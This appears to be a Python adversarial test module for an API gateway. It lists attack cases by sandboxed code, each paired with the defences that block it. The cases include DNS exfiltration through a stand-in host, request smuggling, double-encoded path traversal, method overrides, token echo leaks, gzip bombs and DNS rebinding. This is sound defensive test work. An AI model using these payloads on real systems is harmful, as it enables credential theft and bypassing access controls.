"""Attacks of code on the rules that its action has, each with what is taken away in its control.

A case says what the code does, what would have come of it if it had succeeded, and the defences: each a name and a
change to the gateway. With all of them changed the attack succeeds; with all but one it doesn't.
"""

from __future__ import annotations

import base64
import gzip
import re
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from runtimes.gateway import bodies, http_framing, proxy_response, response_filter, rule_match
from runtimes.gateway.plan import MethodRule, Slot
from runtimes.gateway.rule_match import RulePolicy
from tests.adversarial.code_scene import HOME, MARKS, SECRETS, WORK, CodeScene, rule
from tests.adversarial.registry import Attack, Where
from tests.adversarial.unsafe_rules import (
    TWICE,
    UnsafeAnyMethod,
    UnsafeAnyOrigin,
    Without,
    any_kind,
    as_it_came,
    in_rules,
    lax_head,
    lenient,
    nothing,
    policy,
    same_path,
    sets,
    unredacted,
    written_as_it_came,
)
from tests.runtimes.gateway.support import Box, Reply, Seen

Do = Callable[[CodeScene, Box], Awaitable[Any]]
Came = Callable[[CodeScene], bool]


@dataclass(frozen=True)
class Case:
    """One attack. `quiet`: it is made harmless rather than refused, so nothing is reported."""

    tries: str
    do: Do
    came: Came
    without: tuple[tuple[str, Without], ...]
    quiet: bool = False
    rules: tuple[MethodRule, ...] = ()  # beside those of the scene
    answer: Callable[[Seen], Reply] | None = None


# ---- what code does


def asks(method: str, path: str, body: Any = None, *, by: tuple[str, str] | None = WORK, **headers: str) -> Do:
    """One request to the service, with the placeholder of `by`."""
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    if by is not None:
        named = {"Authorization": f"Bearer {MARKS[by]}", **named}
    return lambda scene, box: box.request(method, f"{scene.origin}{path}", body, named)


def posts(body: Any = None, **headers: str) -> Do:
    return asks("POST", "/api/messages", {"channel": "C1"} if body is None else body, **headers)


def arrived(scene: CodeScene) -> bool:
    return bool(scene.good.seen or scene.other.seen)


def twice(first: Do, second: Do) -> Do:
    async def both(scene: CodeScene, box: Box) -> Any:
        await first(scene, box)
        return await second(scene, box)

    return both


def elsewhere(scene: CodeScene, box: Box) -> Awaitable[Any]:
    return box.request("GET", f"{scene.elsewhere}/api/users/1", None, {"Authorization": f"Bearer {MARKS[WORK]}"})


def by_name(scene: CodeScene, box: Box) -> Awaitable[Any]:
    """The question to a resolver is all that the attack wants."""
    return box.request(
        "GET", "https://c2vjcmv0.evil.example/api/users/1", None, {"Authorization": f"Bearer {MARKS[WORK]}"}
    )


def told(scene: CodeScene) -> str:
    """All that the code got, and the daemon."""
    got = scene.got
    answer = "" if got is None else "\n".join([*got.headers, *got.headers.values(), got.body.decode("latin-1")])
    return answer + "".join(str(one) for one in scene.watch.exchanges)


def _plain(secret: str) -> str:
    """As much of a secret as a header's name can hold."""
    return re.sub(r"[^a-z0-9-]", "", secret.lower())


def order(scene: CodeScene) -> list[str]:
    return [
        " ".join(name for name in seen.headers if name in ("accept", "range", "prefer")) for seen in scene.good.seen
    ]


# ---- the attacks

SECRET = SECRETS[WORK]
DOCUMENT = "{ issue(number: 1) { title } }"
STORED = {"persistedQuery": {"version": 1, "sha256Hash": "0" * 64}}
# As `runtimes.code.document_rule` makes them, at an address that isn't called graphql.
WRITTEN = rule(
    9, "POST", "documents", fields={"query": (DOCUMENT,), "variables": (), "operationName": ()}, must=("query",),
    only=True, body_format="json",
)  # fmt: skip
CUT = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (b"you sent ", SECRET[:9].encode(), SECRET[9:].encode()))
BATCH = b"--x\r\nContent-Type: application/http\r\n\r\nDELETE /api/everything HTTP/1.1\r\n\r\n--x--\r\n"


def says(text: str, **headers: str) -> Callable[[Seen], Reply]:
    named = {"content-type": "text/plain", **{name.replace("_", "-"): value for name, value in headers.items()}}
    return lambda seen: (200, named, text.encode())


def smuggled(scene: CodeScene, box: Box) -> Awaitable[Any]:
    lines = [
        "PUT /api/files/a HTTP/1.1", f"Host: localhost:{scene.good.port}", f"Authorization: Bearer {MARKS[WORK]}",
        "Content-Length: 3", "Transfer-Encoding: chunked", "Connection: close", "", "1", "x", "0", "", "",
    ]  # fmt: skip
    return box.raw("\r\n".join(lines).encode(), "localhost", scene.good.port)


CASES: dict[str, Case] = {
    "code_other_host": Case(
        "send to a host that no rule has",
        elsewhere,
        lambda s: bool(s.other.seen),
        (("the rules' hosts", policy(UnsafeAnyOrigin)),),
    ),
    "code_dns": Case(
        "carry data out in the name of a host",
        by_name,
        lambda s: "c2vjcmv0.evil.example" in s.resolved,
        (("the rules' hosts", policy(UnsafeAnyOrigin)),),
    ),
    "code_other_verb": Case(
        "DELETE where it may read",
        asks("DELETE", "/api/users/1"),
        arrived,
        (("the rules' methods", policy(UnsafeAnyMethod)),),
    ),
    "code_other_path": Case(
        "another path of the service",
        asks("GET", "/api/admin/1/2"),
        arrived,
        (("the rules' paths", in_rules(path=(Slot("rest", many=True),))),),
    ),
    "code_decoded_twice": Case(
        "a value that is another path where it is decoded twice",
        asks("GET", "/api/users/%252e%252e%252fadmin"),
        arrived,
        (("a slot is one plain segment", same_path),),
    ),
    "code_neighbouring_method": Case(
        "another method's path where a slot would take it",
        asks("GET", "/api/users/me"),
        arrived,
        (("other methods' templates", in_rules(others=())),),
    ),
    "code_other_query": Case(
        "a parameter that wasn't allowed",
        asks("GET", "/api/users/1?all=true"),
        arrived,
        (("the rules' queries", nothing(rule_match, "_check_query")),),
    ),
    "code_own_token_in_query": Case(
        "an own account's token in the query",
        asks("GET", "/api/users/1?access_token=mine"),
        arrived,
        (("the rules' queries", nothing(rule_match, "_check_query")),),
    ),
    "code_other_value": Case(
        "another value in the body than was approved",
        posts({"channel": "C2"}),
        arrived,
        (("the rules' values", nothing(bodies, "check_fields")),),
    ),
    "code_left_out": Case(
        "leave out the field that was a condition",
        posts({"text": "x"}),
        arrived,
        (("what must be there", in_rules(must=())),),
    ),
    "code_alias": Case(
        "a second name that the server takes for the first",
        posts({"channel": "C1", "Channel": "C2"}),
        arrived,
        (("names that could be taken for another", lambda p, s: p.setattr(bodies, "_plains", lambda name: {name})),),
    ),
    "code_key_twice": Case(
        "one key twice, with two values",
        posts(TWICE),
        lambda s: any(one.body == TWICE for one in s.good.seen),
        (("no key twice", lenient), ("bodies are written anew", written_as_it_came)),
    ),
    "code_body_override": Case(
        "another method by a field of the body",
        posts({"channel": "C1", "_method": "DELETE"}),
        arrived,
        (("names that change the meaning", nothing(bodies, "check_names")),),
    ),
    "code_header_override": Case(
        "another method by a header",
        posts(X_HTTP_Method_Override="DELETE"),
        lambda s: any("x-http-method-override" in one.headers for one in s.good.seen),
        (
            ("names that change the meaning", nothing(rule_match, "check_overrides")),
            ("headers by an allow-list", as_it_came),
        ),
    ),
    "code_batch": Case(
        "a body that holds requests of its own",
        asks("PUT", "/api/files/b", BATCH, Content_Type="multipart/mixed; boundary=x"),
        arrived,
        (("no body with requests in it", any_kind),),
    ),
    "code_graphql": Case(
        "GraphQL where none of its queries was allowed",
        asks("POST", "/api/graphql", {"query": "mutation{x}"}),
        arrived,
        (("GraphQL by its queries", nothing(rule_match, "_check_graphql")),),
        rules=(rule(9, "POST", "graphql", body_format="json"),),
    ),
    **{
        f"code_graphql_{name}": Case(
            tries,
            asks("POST", "/api/documents", body),
            arrived,
            (("a document to the letter, and nothing beside it", nothing(bodies, "check_fields")),),
            rules=(WRITTEN,),
        )
        for name, tries, body in (
            ("other", "send another GraphQL document than the program holds", {"query": "mutation{x}"}),
            ("stored", "name a stored GraphQL document beside it", {"query": DOCUMENT, "extensions": STORED}),
            ("hash", "name a stored GraphQL document in its place", {"extensions": STORED}),
            ("batch", "send a batch of GraphQL documents", [{"query": DOCUMENT}, {"query": "mutation{x}"}]),
        )
    },
    "code_own_header_token": Case(
        "an own account's token in another header",
        posts(X_Api_Key="attackers-own"),
        lambda s: any(one.headers.get("x-api-key") for one in s.good.seen),
        (("headers by an allow-list", as_it_came),),
    ),
    "code_no_placeholder": Case(
        "have the credential put in unasked",
        asks("GET", "/api/users/1", by=None),
        arrived,
        (("the placeholder", nothing(RulePolicy, "_check_credential")),),
    ),
    "code_others_placeholder": Case(
        "use another account's placeholder",
        asks("GET", "/api/users/1", by=HOME),
        arrived,
        (("the placeholder's account", nothing(RulePolicy, "_check_credential")),),
    ),
    "code_placeholder_in_body": Case(
        "have the credential swapped in where others read it",
        posts({"channel": "C1", "text": f"my token is {MARKS[WORK]}"}),
        arrived,
        (("the placeholder's one place", nothing(RulePolicy, "_holds", False)),),
    ),
    "code_placeholder_in_query": Case(
        "the same in the query",
        asks("GET", f"/api/users/1?limit={MARKS[WORK]}"),
        arrived,
        (("the placeholder's one place", nothing(RulePolicy, "_holds", False)),),
    ),
    "code_placeholder_in_path": Case(
        "the same in the path",
        asks("GET", f"/api/users/{MARKS[WORK]}"),
        arrived,
        (("the placeholder's one place", nothing(RulePolicy, "_holds", False)),),
    ),
    "code_placeholder_in_header": Case(
        "the same in another header",
        posts(User_Agent=MARKS[WORK]),
        arrived,
        (("the placeholder's one place", nothing(RulePolicy, "_holds", False)),),
    ),
    "code_signed": Case(
        "a request signed by an own key",
        asks("GET", "/api/users/1?X-Amz-Signature=aa"),
        arrived,
        (
            ("nothing that is signed", nothing(rule_match, "check_signed")),
            ("the rules' queries", nothing(rule_match, "_check_query")),
        ),
    ),
    "code_many_calls": Case(
        "call more often than was allowed",
        twice(asks("GET", "/api/once"), asks("GET", "/api/once")),
        lambda s: len(s.good.seen) > 1,
        (("the rules' counts", nothing(RulePolicy, "_check_calls")),),
        rules=(rule(9, "GET", "once", calls=1),),
    ),
    "code_large_request": Case(
        "send more than was allowed",
        asks("PUT", "/api/files/a", b"x" * 200_000, Content_Type="application/octet-stream"),
        arrived,
        (("the rules' sizes", in_rules(request_bytes=2**30)),),
    ),
    "code_large_answer": Case(
        "have more sent back than was allowed",
        asks("GET", "/api/big"),
        lambda s: s.got is not None and len(s.got.body) == 5000,
        (("the rules' sizes", in_rules(response_bytes=2**30)),),
        quiet=True,
        rules=(rule(9, "GET", "big", response_bytes=1000),),
        answer=says("x" * 5000),
    ),
    "code_smuggling": Case("smuggle a request by two framings", smuggled, arrived, (("a strict head", lax_head),)),
    "code_header_order": Case(
        "carry data out in the order of headers",
        twice(
            asks("GET", "/api/users/1", Range="bytes=0-1", Prefer="a"),
            asks("GET", "/api/users/1", Prefer="a", Range="bytes=0-1"),
        ),
        lambda s: len(set(order(s))) > 1,
        (("headers are written anew", as_it_came),),
        quiet=True,
    ),
    "code_unknown_header": Case(
        "carry data out in a header that nobody knows",
        asks("GET", "/api/users/1", X_Data="c2VjcmV0"),
        lambda s: any("x-data" in one.headers for one in s.good.seen),
        (("headers by an allow-list", as_it_came),),
        quiet=True,
    ),
    "code_echo": Case(
        "have the service say the secret back",
        asks("GET", "/api/users/1"),
        lambda s: SECRET in told(s),
        (("redaction", unredacted),),
        quiet=True,
        answer=says(f"you sent {SECRET}"),
    ),
    "code_echo_in_header": Case(
        "the same in a header of the answer",
        asks("GET", "/api/users/1"),
        lambda s: SECRET in told(s),
        (("redaction", unredacted),),
        quiet=True,
        answer=says("x", etag=f'"{SECRET}"'),
    ),
    "code_echo_in_name": Case(
        "the same in a header's name, whose letters have no case",
        asks("GET", "/api/users/1"),
        lambda s: _plain(SECRET) in told(s),
        (
            (
                "names of headers by families",
                lambda p, s: p.setattr(response_filter, "_FAMILIES", re.compile("x-github-[a-z0-9-]+")),
            ),
        ),
        quiet=True,
        answer=says("x", **{f"x-github-{_plain(SECRET)}": "1"}),
    ),
    "code_echo_compressed": Case(
        "the same in a compressed answer",
        asks("GET", "/api/users/1"),
        lambda s: SECRET in told(s),
        (("redaction", unredacted),),
        quiet=True,
        answer=lambda seen: (200, {"content-encoding": "gzip"}, gzip.compress(f"you sent {SECRET}".encode())),
    ),
    "code_echo_in_pieces": Case(
        "the same, cut between two chunks",
        asks("GET", "/api/users/1"),
        lambda s: SECRET in told(s),
        (("redaction", unredacted),),
        quiet=True,
        answer=lambda seen: b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n" + CUT + b"0\r\n\r\n",
    ),
    "code_echo_in_error": Case(
        "the same in an error's text",
        asks("GET", "/api/users/1"),
        lambda s: SECRET in told(s),
        (("redaction", unredacted),),
        quiet=True,
        answer=lambda seen: (500, {"content-type": "text/html"}, f"<p>{SECRET}".encode()),
    ),
    "code_echo_base64": Case(
        "the same in base64, as one sees it in a log of headers",
        asks("GET", "/api/users/1"),
        lambda s: base64.b64encode(SECRET.encode()).decode()[:24] in told(s),
        (("redaction", unredacted),),
        quiet=True,
        answer=says(base64.b64encode(f"{SECRET}:".encode()).decode()),
    ),
    "code_echo_percent": Case(
        "the same as a URL has it",
        asks("GET", "/api/users/1"),
        lambda s: quote(SECRET, safe="") in told(s),
        (("redaction", unredacted),),
        quiet=True,
        answer=says(quote(SECRET, safe="")),
    ),
    "code_cookie": Case(
        "get at a credential that the service gives in a cookie",
        asks("GET", "/api/users/1"),
        lambda s: "session-of-the-account" in told(s),
        (
            (
                "headers of answers by an allow-list",
                sets(proxy_response, "passed_headers", lambda headers, base, knows, text, more: (list(headers), "")),
            ),
        ),
        quiet=True,
        answer=says("x", set_cookie="sid=session-of-the-account"),
    ),
    "code_redirect": Case(
        "be led, with its placeholder, to a place that no rule has",
        asks("GET", "/api/users/1"),
        lambda s: "attacker.example/steal" in told(s),
        (
            (
                "where an answer leads",
                sets(proxy_response, "passed_headers", lambda headers, base, knows, text, more: (list(headers), "")),
            ),
        ),
        answer=lambda seen: (302, {"location": "https://attacker.example/steal"}, b""),
    ),
    "code_upload_address": Case(
        "get an upload's address, which is a credential by itself, out of a header",
        asks("GET", "/api/users/1"),
        lambda s: "capability-of-an-upload" in told(s),
        (
            (
                "addresses in headers only where a rule has them",
                sets(response_filter, "_covered", lambda name, value, base, covers: value),
            ),
        ),
        quiet=True,
        answer=lambda seen: (
            200,
            {"x-goog-upload-url": f"https://{seen.headers['host']}/upload?upload_id=capability-of-an-upload"},
            b"x",
        ),
    ),
    "code_link_address": Case(
        "get a signed address out of a Link header, behind one that is allowed",
        asks("GET", "/api/users/1"),
        lambda s: "capability-in-a-link" in told(s),
        (
            (
                "addresses in headers only where a rule has them",
                sets(response_filter, "_covered", lambda name, value, base, covers: value),
            ),
        ),
        quiet=True,
        answer=says("x", link='</api/users/2>; rel="next", </api/users/3?sig=capability-in-a-link>; rel="last"'),
    ),
    "code_content_location": Case(
        "get a signed address of another host out of a Content-Location header",
        asks("GET", "/api/users/1"),
        lambda s: "capability-elsewhere" in told(s),
        (
            (
                "addresses in headers only where a rule has them",
                sets(response_filter, "_covered", lambda name, value, base, covers: value),
            ),
        ),
        quiet=True,
        answer=says("x", content_location="https://store.example/o?X-Amz-Signature=capability-elsewhere"),
    ),
    "code_location_session": Case(
        "get an upload's session, at the service itself, out of a Location header",
        asks("GET", "/api/users/1"),
        lambda s: "capability-of-a-session" in told(s),
        (
            (
                "addresses in headers only where a rule has them",
                sets(RulePolicy, "covers", lambda self, url: True),
            ),
        ),
        quiet=True,
        answer=lambda seen: (200, {"location": "/api/users/1?upload_id=capability-of-a-session"}, b"x"),
    ),
    "code_typed_slot": Case(
        "reach another method by a word where a number belongs",
        asks("GET", "/api/issues/comments"),
        arrived,
        (("forms of slots", lambda p, s: s.lose("form")),),
        rules=(rule(5, "GET", "issues", Slot("number", form=r"\A-?[0-9]{1,20}\Z")),),
    ),
    "code_typed_slot_by_line_end": Case(
        "the same behind a number and a line's end",
        asks("GET", "/api/issues/7%0A"),
        arrived,
        (("forms of slots", lambda p, s: s.lose("form")), ("one plain segment", same_path)),
        rules=(rule(5, "GET", "issues", Slot("number", form=r"\A-?[0-9]{1,20}\Z")),),
    ),
    "code_bomb": Case(
        "unpack an answer to more than there is room for",
        asks("GET", "/api/users/1"),
        lambda s: s.got is not None and len(s.got.body) == 40_000_000,
        (("a bound on what is unpacked", lambda p, s: p.setattr(http_framing, "_RATIO", 10**9)),),
        quiet=True,
        answer=lambda seen: (200, {"content-encoding": "gzip"}, gzip.compress(bytes(40_000_000))),
    ),
    "code_name_to_metadata": Case(
        "a rule's name that leads to the cloud's metadata",
        asks("GET", "/api/users/1"),
        arrived,
        (
            (
                "addresses that aren't connected to",
                lambda p, s: p.setattr("runtimes.gateway.upstream.Upstream.refusal", lambda *_: ""),
            ),
        ),
    ),
    "code_rebinding": Case(
        "another address at the second look-up",
        twice(asks("GET", "/api/users/1"), asks("GET", "/api/users/1")),
        lambda s: bool(s.inside.seen),
        (
            ("the pinned address", lambda p, s: s.forget()),
            (
                "addresses that aren't connected to",
                lambda p, s: p.setattr("runtimes.gateway.upstream.Upstream.refusal", lambda *_: ""),
            ),
        ),
        quiet=True,
    ),
    "code_other_certificate": Case(
        "answer in the service's stead",
        asks("GET", "/api/users/1"),
        arrived,
        (("the server's certificate", lambda p, s: s.trust_anybody(p)),),
        quiet=True,
    ),
}

_TESTS = "tests/adversarial/test_code.py"
ROWS = tuple(
    Attack(
        name=name,
        tries=case.tries,
        where=Where.CODE,
        refused_by=tuple(defence for defence, _ in case.without),
        test=f"{_TESTS}::test_refused[{name}]",
        control=f"{_TESTS}::test_control[{name}]",
    )
    for name, case in CASES.items()
)
